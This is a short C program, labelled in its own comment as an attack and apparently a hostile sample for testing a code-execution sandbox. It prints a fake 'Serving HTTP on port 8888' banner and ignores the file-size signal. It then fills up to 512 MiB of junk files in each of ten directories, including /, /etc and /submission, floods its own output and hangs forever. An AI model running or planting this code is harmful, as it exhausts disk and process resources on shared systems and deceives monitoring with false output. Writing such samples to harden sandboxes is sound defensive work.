/*
 * Attack: writes without end: to every folder that lets it, and to its own output.
 * (Of itself it ends at 64 MiB for each.)
 */
#define _XOPEN_SOURCE 700
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

enum { CHUNK = 65536, MOST = 1024, FILES = 8 };
static char chunk[CHUNK];

/* Writes into that descriptor as long as it takes it; returns how many KiB. */
static long fill(int fd) {
    long written = 0;
    for (int i = 0; i < MOST; i++) {
        ssize_t size = write(fd, chunk, sizeof chunk);
        if (size <= 0) break;
        written += size / 1024;
    }
    return written;
}

int main(void) {
    static const char *const places[] = {".",    "/tmp", "/var/tmp", "/dev/shm", "/submission",
                                         "/run", "/",    "/etc",     "/usr/tmp", "/scratch"};
    char words[2048] = "", name[64];
    signal(SIGXFSZ, SIG_IGN);
    memset(chunk, 'x', sizeof chunk);
    chunk[sizeof chunk - 1] = '\n';
    puts("Serving HTTP on port 8888 ...");
    fflush(stdout);
    for (size_t i = 0; i < sizeof places / sizeof *places; i++) {
        long written = 0;
        for (int number = 0; number < FILES; number++) {
            int fd;
            snprintf(name, sizeof name, "%s/filled-%zu-%d", places[i], i, number);
            fd = open(name, O_WRONLY | O_CREAT, 0600);
            if (fd == -1) break;
            written += fill(fd);
            close(fd);
        }
        snprintf(words + strlen(words), sizeof words - strlen(words), "%s: %ld KiB\n", places[i],
                 written);
    }
    fill(STDOUT_FILENO);
    snprintf(words + strlen(words), sizeof words - strlen(words), "done\n");
    if (write(STDERR_FILENO, words, strlen(words)) == -1) return 1;
    for (;;) pause();
}
